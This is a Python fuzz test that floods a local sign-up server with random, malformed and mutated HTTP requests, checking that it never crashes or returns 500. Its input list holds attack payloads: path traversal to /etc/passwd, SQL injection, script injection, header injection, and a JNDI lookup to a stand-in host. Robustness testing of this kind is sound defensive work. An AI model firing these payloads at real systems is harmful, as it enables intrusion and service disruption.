#!/usr/bin/env python3
"""Sends the running server what nobody should: random and broken requests to all of its routes, as strangers and as an owner. A trap would end
it for all schools at once; it must stay up, answer no garbage with 500, and serve everybody afterwards.

    server_fuzz_tests.py [SITEGEN]          the server is the program SignupServer beside it; default: .build/debug

The environment says how long and which requests: FUZZ_SECONDS (20) and FUZZ_SEED (1). Standard library only.
"""
import collections
import os
import random
import re
import socket
import sys
import threading
import time
import unittest
import urllib.parse

import running_platform
from running_platform import ROOT, Platform

SERVER = running_platform.SERVER
SECONDS = float(os.environ.get("FUZZ_SECONDS", "20"))
SEED = int(os.environ.get("FUZZ_SEED", "1"))
WORKERS = 4


def read_sources():
    return "\n".join(path.read_text() for path in sorted((ROOT / "Sources/SignupServer").rglob("*.swift")))


SOURCES = read_sources()
# Whatever features there are: what is added is asked for without another word.
ROUTES = sorted(set(re.findall(r'Route\(\s*\.(?:get|post|put|patch|delete),\s*"(/[^"]*)"', SOURCES)))
FIELDS = sorted(set(re.findall(r'FormField\(\s*"([a-z_]+)"', SOURCES) + re.findall(r'static let [a-zA-Z]+ = "([a-z_]+)"', SOURCES)
                    + re.findall(r'data\["([a-z_]+)"\]', SOURCES) + ["token", "form_token", "address", "email", "session", "next", "lang"]))
METHODS = [*["GET"] * 8, *["POST"] * 14, "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "get", "X" * 40, "", "PRI"]
HOSTILE = [
    "", " ", "\0", "\r\nSet-Cookie: a=b", "%", "%zz", "%00", "%c0%af", "../../../etc/passwd", "..%2f..%2f", "//evil.example", "\\\\evil.example",
    "' OR 1=1 --", "\"><script>alert(1)</script>", "{{t.saved}}", "${jndi:ldap://evil.example}", "a" * 300, "é" * 200, "\u202e", "\ufeff",
    "\U0001f3eb" * 50, "-1", "0", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e309", "NaN", "0x10", "2026-02-30",
    "9999-12-31", "0000-00-00", "-0001-01-01", "99999999999999999999-01-01", "24:61", "#12345", "#gggggg", "xn--a", "a.b.c.d", "[::1]", "null", "[]", "{}",
    "name: [", "&a *a", "!!binary x", "---\n---", "😀@😀", "a@b", "a@" + "b." * 120 + "example", "=?utf-8?q?=0a?=", "yes", "on", "oak", "elm",
    "00000000-0000-0000-0000-000000000000", "A" * 43, "A" * 44, "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:99999999T999999Z\r\nRRULE:FREQ=SECONDLY\r\n",
]


class Worker:
    def __init__(self, platform, number):
        self.platform = platform
        self.random = random.Random(SEED * 1000 + number)
        self.cookie = ""
        self.statuses = collections.Counter()
        # Requests that were answered with 500, and the last ones, should the server end.
        self.failures = []
        self.last = collections.deque(maxlen=5)

    def run(self, end):
        count = 0
        while time.monotonic() < end and self.platform.process.poll() is None:
            if count % 100 == 0:
                # It may have signed itself out.
                self.cookie = self.platform.add_session("oak") if self.platform.query("SELECT 1 FROM organization WHERE slug = 'oak'") else ""
            count += 1
            self.send(self.request())

    def send(self, data):
        self.last.append(data)
        try:
            with socket.create_connection(("127.0.0.1", self.platform.port), timeout=10) as connection:
                connection.settimeout(10)
                connection.sendall(data)
                connection.shutdown(socket.SHUT_WR)
                answer = b""
                while len(answer) < 1 << 20 and (piece := connection.recv(65536)):
                    answer += piece
        except TimeoutError:
            self.statuses["no answer"] += 1
            self.failures.append(data)
            return
        except OSError:
            self.statuses["closed"] += 1
            return
        for status in re.findall(rb"HTTP/1\.[01] (\d{3}) ", answer[:20]) or [b"0"]:
            self.statuses[int(status)] += 1
            if int(status) == 500:
                self.failures.append(data)

    # What is sent

    def request(self):
        data = self.well_formed()
        if self.random.random() < 0.25:
            data = self.mutated(data)
        if self.random.random() < 0.05:
            data = data + self.well_formed()
        return data

    def text(self):
        choice = self.random.random()
        if choice < 0.6:
            return self.random.choice(HOSTILE)
        if choice < 0.8:
            return "".join(chr(self.random.choice([self.random.randrange(32, 127), self.random.randrange(0xD7FF), 0x10FFFF])) for _ in range(self.random.randrange(20)))
        if choice < 0.83:
            return "x" * self.random.choice([1000, 65_536, 70_000, 200_000])
        return self.random.choice(["Oak PTSA", "ana@oak.example", "maple", "WA", "PTA", "#123456", "en", "America/Los_Angeles", "2027-09-01", "18:30"])

    def path(self):
        route = self.random.choice(ROUTES)

        def fill(match):
            if match.group(0) == "{slug}" and self.random.random() < 0.8:
                return self.random.choice(["oak", "oak", "elm", "none", "OAK"])
            return urllib.parse.quote(self.text()[:400], safe=self.random.choice(["", "/", "/%."]), errors="surrogatepass")

        path = re.sub(r"\{[a-zA-Z]+\}|\*\*?", fill, route)
        if self.random.random() < 0.4:
            path += "?" + self.form(self.random.randrange(4))
        if self.random.random() < 0.05:
            path = self.random.choice(["*", "http://localhost/", "//localhost/", path + "/", path + "/..", path.upper(), "/" + path, path + "#a"])
        return path

    def form(self, count):
        pairs = []
        for _ in range(count):
            name = self.random.choice(FIELDS) if self.random.random() < 0.9 else self.text()
            value = self.text()
            pairs.append(urllib.parse.quote_plus(name, errors="surrogatepass") + "=" + urllib.parse.quote_plus(value, errors="surrogatepass"))
        return "&".join(pairs)

    def body(self):
        choice = self.random.random()
        if choice < 0.75:
            return "application/x-www-form-urlencoded", self.form(self.random.choice([0, 1, 3, 8, 20, 400])).encode()
        if choice < 0.85:
            name, value = self.text(), self.text()
            part = f'--b\r\nContent-Disposition: form-data; name="{name}"; filename="{self.text()}"\r\n\r\n{value}\r\n'
            return "multipart/form-data; boundary=b", (part * self.random.randrange(1, 5) + "--b--").encode(errors="replace")
        if choice < 0.93:
            return "application/json", self.random.choice(['{"a":' * 2000, "[" * 50_000, '{"name": "\\ud800"}', "{}", "nul", '{"a": 1e999}', '"' + self.text() + '"']).encode(errors="replace")
        return self.random.choice(["text/plain", "application/octet-stream", "", "a/b; c"]), self.random.randbytes(self.random.randrange(2000))

    def well_formed(self):
        method, path = self.random.choice(METHODS), self.path()
        host = "localhost" if self.random.random() < 0.85 else self.random.choice(
            ["oak.sites.localhost", "elm.sites.localhost", "none.sites.localhost", "sites.localhost", "127.0.0.1", "localhost:99999", "a@b", "[::1", "", "localhost.", "x" * 300, "%00"])
        lines = [f"{method} {path} HTTP/1.{self.random.choice('1111110')}", f"Host: {host}", "Connection: close",
                 # Another address each time: limits would keep it from what is behind them.
                 f"X-Forwarded-For: 10.{self.random.randrange(256)}.{self.random.randrange(256)}.1"]
        if self.random.random() < 0.6:
            lines.append(f"Cookie: {self.cookie}")
        elif self.random.random() < 0.3:
            lines.append("Cookie: " + "; ".join(f"{name}={self.text()[:500]}" for name in ("session", "sign-in", "language", "__Host-session")))
        if self.random.random() < 0.9:
            lines.append("Sec-Fetch-Site: same-origin")
        for name in ("Accept-Language", "User-Agent", "Authorization", "Accept", "Range", "If-None-Match", "Idempotency-Key", "Referer", "Origin", "Expect",
                     "Content-Encoding", "Accept-Encoding"):
            if self.random.random() < 0.06:
                lines.append(f"{name}: {self.text()[:2000]}")
        body = b""
        if method in ("POST", "PUT", "PATCH", "DELETE") or self.random.random() < 0.1:
            kind, body = self.body()
            lines.append(f"Content-Type: {kind}")
            if self.random.random() < 0.9:
                lines.append(f"Content-Length: {len(body)}")
            else:
                lines.append("Transfer-Encoding: chunked")
                size = self.random.choice([f"{len(body):x}", "ffffffffffffffff", "-1", "zz", ""])
                body = f"{size}\r\n".encode() + body + b"\r\n0\r\n\r\n"
        return "\r\n".join(lines).encode(errors="replace") + b"\r\n\r\n" + body

    def mutated(self, data):
        data = bytearray(data)
        for _ in range(self.random.choice([1, 1, 2, 5, 20])):
            if not data:
                break
            place = self.random.randrange(len(data))
            match self.random.randrange(5):
                case 0: data[place] = self.random.randrange(256)
                case 1: del data[place:place + self.random.randrange(1, 30)]
                case 2: data[place:place] = self.random.randbytes(self.random.randrange(1, 10))
                case 3: data[place:place] = data[place:place + 200]
                case 4: data[place:place] = self.random.choice([b"\r\n", b"\n", b"\0", b": ", b"%", b"&", b"=", b"\r\n\r\n", b"\xff"])
        return bytes(data)


class FuzzTests(unittest.TestCase):
    def test_the_server_stays_up_and_answers_no_garbage_with_500(self):
        platform = Platform(SERVER, "--trusted-proxies", "127.0.0.1", "--limits-request-seconds", "3")
        self.addCleanup(platform.close)
        platform.start()
        for slug in ("oak", "elm"):
            self.assertEqual(platform.confirm(platform.add_sign_up(slug)), 303)
        self.assertEqual(platform.wait_until_ready(), [])
        workers = [Worker(platform, number) for number in range(WORKERS)]
        end = time.monotonic() + SECONDS
        threads = [threading.Thread(target=worker.run, args=(end,)) for worker in workers]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        statuses = sum((worker.statuses for worker in workers), collections.Counter())
        print(f"{sum(statuses.values())} requests to {len(ROUTES)} routes, seed {SEED}: {dict(statuses.most_common())}", file=sys.stderr)
        log = platform.log_path.read_text(errors="replace")
        if platform.process.poll() is not None:
            self.fail("the server has ended; the last requests:\n" + "\n".join(repr(data[:2000]) for worker in workers for data in worker.last) + log[-3000:])
        reasons = "\n".join(sorted({line for line in log.splitlines() if "a route has failed" in line})[:20])
        failures = [data for worker in workers for data in worker.failures]
        self.assertEqual([data[:1500] for data in failures[:5]], [], f"{len(failures)} requests\n{reasons}")
        # Nothing was worn out by it.
        self.assertEqual(platform.ask("GET", "/health", timeout=5)[0], 200)
        self.assertEqual(platform.ask("GET", "/sign-up", timeout=5)[0], 200)
        self.assertEqual(platform.site("elm")[0], 200)
        self.assertEqual(platform.confirm(platform.add_sign_up("maple")), 303)
        self.assertEqual(platform.wait_until_ready(), [])
        self.assertEqual(platform.site("maple")[0], 200)
        self.assertGreater(len(statuses), 5)


if __name__ == "__main__":
    if len(sys.argv) > 1 and not sys.argv[1].startswith("-"):
        SERVER = running_platform.server_beside(sys.argv.pop(1))
    unittest.main()
